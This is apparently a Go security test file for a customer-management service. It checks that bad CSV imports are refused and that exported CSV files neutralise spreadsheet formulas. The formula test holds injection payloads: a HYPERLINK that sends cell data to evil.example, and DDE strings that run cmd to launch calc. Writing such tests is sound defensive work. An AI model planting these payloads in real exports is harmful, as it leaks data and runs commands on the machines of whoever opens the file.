package security

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/linedesk/linedesk/internal/testutil"
	"github.com/linedesk/linedesk/test/fault/kit"
)

const importDoc = `mutation($file: Upload!) { importCustomers(file: $file, dryRun: false) { applied rows created errors { row column message } } }`

// importAnswer is what an import returned: a GraphQL error or row errors.
type importAnswer struct {
	applied bool
	refusal string
}

func doImport(ctx context.Context, t *testing.T, e *env, content, name string) importAnswer {
	t.Helper()
	errs, body, err := upload(ctx, e.srv.HTTP, e.fx.Token, importDoc, "file", content, name)
	if err != nil {
		return importAnswer{refusal: "transport: " + err.Error()}
	}
	kit.Record(body)
	if len(errs) > 0 {
		return importAnswer{refusal: errs[0].Message}
	}
	var res struct {
		Data struct {
			ImportCustomers struct {
				Applied bool
				Errors  []struct {
					Row     int
					Column  *string
					Message string
				}
			}
		}
	}
	if err := jsonUnmarshal(body, &res); err != nil {
		return importAnswer{refusal: "undecodable answer: " + err.Error()}
	}
	ic := res.Data.ImportCustomers
	a := importAnswer{applied: ic.Applied}
	if len(ic.Errors) > 0 {
		a.refusal = fmt.Sprintf("row %d: %s", ic.Errors[0].Row, ic.Errors[0].Message)
	}
	return a
}

func utf16le(s string) string {
	var b bytes.Buffer
	b.Write([]byte{0xff, 0xfe})
	for _, r := range utf16.Encode([]rune(s)) {
		b.WriteByte(byte(r))
		b.WriteByte(byte(r >> 8))
	}
	return b.String()
}

// TestCSVImportRejectsBadFiles uploads malformed, wrongly encoded and huge CSV files: each is
// refused with a clear error, and nothing is written.
func TestCSVImportRejectsBadFiles(t *testing.T) {
	e := start(t, "csv", 1)
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	var prof struct {
		Profiles struct {
			Edges []struct{ Node struct{ Name string } }
		}
	}
	if err := kit.GQL(ctx, e.srv, e.fx.Token, `{profiles(first:1){edges{node{name}}}}`, nil, &prof); err != nil || len(prof.Profiles.Edges) == 0 {
		t.Fatalf("profiles: %v", err)
	}
	pn := prof.Profiles.Edges[0].Node.Name
	header := "username,password,phone,full_name,profile\n"
	good := func(u, name string) string {
		return fmt.Sprintf("%s,Csv-Pass-123x,+254711%06d,%s,%s\n", u, len(u)*1000+len(name), name, pn)
	}
	manyRows := strings.Builder{}
	manyRows.WriteString("username,phone,profile\n")
	for i := 0; i <= 200_000; i++ {
		fmt.Fprintf(&manyRows, "r%d,+2547%08d,%s\n", i, i, pn)
	}
	huge := strings.Builder{}
	huge.WriteString(header)
	for i := 0; huge.Len() < 40<<20; i++ {
		fmt.Fprintf(&huge, "huge%07d,Csv-Pass-123x,+25471%07d,%s,%s\n", i, i, strings.Repeat("n", 200), pn)
	}
	cases := []struct{ name, content, want string }{
		{"an unbalanced quote", header + good("csvok1", "Ann") + "csvbad1,Csv-Pass-123x,+254712000001,\"Broken,name," + pn + "\n", ""},
		{"a row with too many fields", header + good("csvok2", "Ann") + "csvbad2,Csv-Pass-123x,+254712000002,Bob," + pn + ",extra,more\n", ""},
		{"no header row", good("csvok3", "Ann"), ""},
		{"an unknown column", "username,phone,profile,credit_card\ncsvbad4,+254712000004," + pn + ",4111\n", ""},
		{"UTF-16 with a byte-order mark", utf16le(header + good("csvutf16", "Zoë")), "UTF"},
		{"Latin-1 (José in ISO-8859-1)", header + "csvlatin1,Csv-Pass-123x,+254712000005,Jos\xe9," + pn + "\n", "UTF"},
		{"a NUL byte", header + "csvnul,Csv-Pass-123x,+254712000006,A\x00B," + pn + "\n", ""},
		{"a 40 MiB file", huge.String(), ""},
		{"200,001 rows", manyRows.String(), ""},
		{"an empty file", "", ""},
	}
	before, err := kit.Count(ctx, e.db, `SELECT count(*) FROM customers`)
	if err != nil {
		t.Fatal(err)
	}
	var report []string
	for _, c := range cases {
		// The same file through the command line (but not 40 MiB of valid rows, which the
		// command line imports: it has no size limit besides the row count).
		if len(c.content) < 32<<20 {
			out, err := cliImport(ctx, t, e, c.content)
			msg := lastLine(out)
			report = append(report, fmt.Sprintf("%s, linedesk import: %s", c.name, exitDesc(err, msg)))
			switch {
			case err == nil:
				t.Errorf("linedesk import customers with %s: succeeded\n%s", c.name, out)
			case c.want != "" && !strings.Contains(strings.ToUpper(out), c.want):
				t.Errorf("linedesk import customers with %s: %q does not say what is wrong (want it to mention %s)", c.name, msg, c.want)
			case strings.Contains(strings.ToLower(out), "internal error") || strings.Contains(out, "panic"):
				t.Errorf("linedesk import customers with %s: %q", c.name, msg)
			}
		}
		a := doImport(ctx, t, e, c.content, "customers.csv")
		msg := a.refusal
		if len(msg) > 120 {
			msg = msg[:120] + "…"
		}
		report = append(report, fmt.Sprintf("%s (%d bytes): %s", c.name, len(c.content), orAccepted(msg)))
		switch {
		case a.applied || a.refusal == "":
			t.Errorf("%s: accepted", c.name)
		case c.want != "" && !strings.Contains(strings.ToUpper(a.refusal), c.want):
			t.Errorf("%s: refused with %q, which does not say what is wrong (want it to mention %s)", c.name, a.refusal, c.want)
		case strings.Contains(strings.ToLower(a.refusal), "internal"):
			t.Errorf("%s: refused with an internal error %q instead of a clear message", c.name, a.refusal)
		}
	}
	after, err := kit.Count(ctx, e.db, `SELECT count(*) FROM customers`)
	if err != nil {
		t.Fatal(err)
	}
	fmt.Printf("CSV import: %d bad files, customers %d → %d:\n  %s\n", len(cases), before, after, strings.Join(report, "\n  "))
	if after != before {
		t.Errorf("bad files wrote %d customers", after-before)
	}
}

// TestCSVExportNeutralisesFormulas stores names and addresses a spreadsheet would run as
// formulas; they are stored and returned verbatim through GraphQL, and exported neutralised.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	e := start(t, "exp", 0)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	var prof struct{ CreateProfile struct{ ID string } }
	if err := kit.GQL(ctx, e.srv, e.fx.Token, `mutation{createProfile(input:{name:"Export",downloadKbps:1000,uploadKbps:1000,validityDays:30,price:1}){id}}`, nil, &prof); err != nil {
		t.Fatal(err)
	}
	payloads := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", `=1+1`}
	byUser := map[string]string{}
	for i, p := range payloads {
		user := fmt.Sprintf("formula%d", i)
		var out struct {
			CreateCustomer struct {
				Customer struct{ FullName, Address string }
			}
		}
		err := kit.GQL(ctx, e.srv, e.fx.Token, `mutation($u:String!,$ph:String!,$p:ID!,$n:String!){createCustomer(input:{username:$u,password:"Formula-Pass-1",phone:$ph,profileID:$p,fullName:$n,address:$n}){customer{fullName address}}}`,
			map[string]any{"u": user, "ph": fmt.Sprintf("+25471300%04d", i), "p": prof.CreateProfile.ID, "n": p}, &out)
		if err != nil {
			t.Fatalf("creating a customer named %q: %v", p, err)
		}
		// Surrounding white space may be trimmed; the rest is kept as typed.
		if out.CreateCustomer.Customer.FullName != strings.TrimSpace(p) || out.CreateCustomer.Customer.Address != strings.TrimSpace(p) {
			t.Errorf("%q stored as %q / %q, want it verbatim", p, out.CreateCustomer.Customer.FullName, out.CreateCustomer.Customer.Address)
		}
		byUser[user] = p
	}
	var gq struct{ ExportCustomers string }
	if err := kit.GQL(ctx, e.srv, e.fx.Token, `{exportCustomers}`, nil, &gq); err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequestWithContext(ctx, "GET", "http://"+e.srv.HTTP+"/export/customers.csv", nil)
	req.Header.Set("Authorization", "Bearer "+e.fx.Token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	exports := map[string]string{"exportCustomers": gq.ExportCustomers}
	if resp.StatusCode == 200 {
		exports["GET /export/customers.csv"] = string(raw)
	} else {
		t.Errorf("GET /export/customers.csv: HTTP %d", resp.StatusCode)
	}
	checked, dangerous := 0, 0
	for where, text := range exports {
		kit.Record(text)
		r := csv.NewReader(strings.NewReader(text))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil || len(rows) < 2 {
			t.Errorf("%s: not a CSV with rows: %v", where, err)
			continue
		}
		col := map[string]int{}
		for i, h := range rows[0] {
			col[strings.TrimPrefix(h, "\ufeff")] = i
		}
		if _, ok := col["password"]; ok {
			t.Errorf("%s exports a password column", where)
		}
		for _, row := range rows[1:] {
			user := row[col["username"]]
			p, ok := byUser[user]
			if !ok {
				continue
			}
			for _, c := range []string{"full_name", "address"} {
				i, ok := col[c]
				if !ok || i >= len(row) {
					t.Errorf("%s: no %s column", where, c)
					continue
				}
				checked++
				cell := row[i]
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					dangerous++
					t.Errorf("%s: %s of %s exported as %q, which a spreadsheet runs as a formula", where, c, user, cell)
				} else if !strings.Contains(cell, strings.TrimSpace(p)) {
					t.Errorf("%s: %s of %s exported as %q, want the value %q kept (only neutralised)", where, c, user, cell, p)
				}
			}
		}
	}
	fmt.Printf("CSV export: %d formula payloads stored verbatim; %d exported cells checked in %d exports, %d would run as formulas\n",
		len(payloads), checked, len(exports), dangerous)
	if checked == 0 {
		t.Error("no exported cell was checked")
	}
}

// cliImport runs `linedesk import customers FILE` against the server's database.
func cliImport(ctx context.Context, t *testing.T, e *env, content string) (string, error) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "customers.csv")
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	cctx, cancel := context.WithTimeout(ctx, 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(cctx, testutil.Binary(t), "import", "customers", "--quiet", path)
	cmd.Env = append(os.Environ(), "LINEDESK_DB="+e.srv.DSN, "LINEDESK_SECRET_KEY="+testutil.TestKeyHex, "LINEDESK_DATA_DIR="+t.TempDir())
	out, err := cmd.CombinedOutput()
	kit.Record(string(out))
	return string(out), err
}

func lastLine(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	l := lines[len(lines)-1]
	if len(l) > 120 {
		l = l[:120] + "…"
	}
	return l
}

func exitDesc(err error, msg string) string {
	if err == nil {
		return "exit 0 (" + msg + ")"
	}
	return "refused: " + msg
}
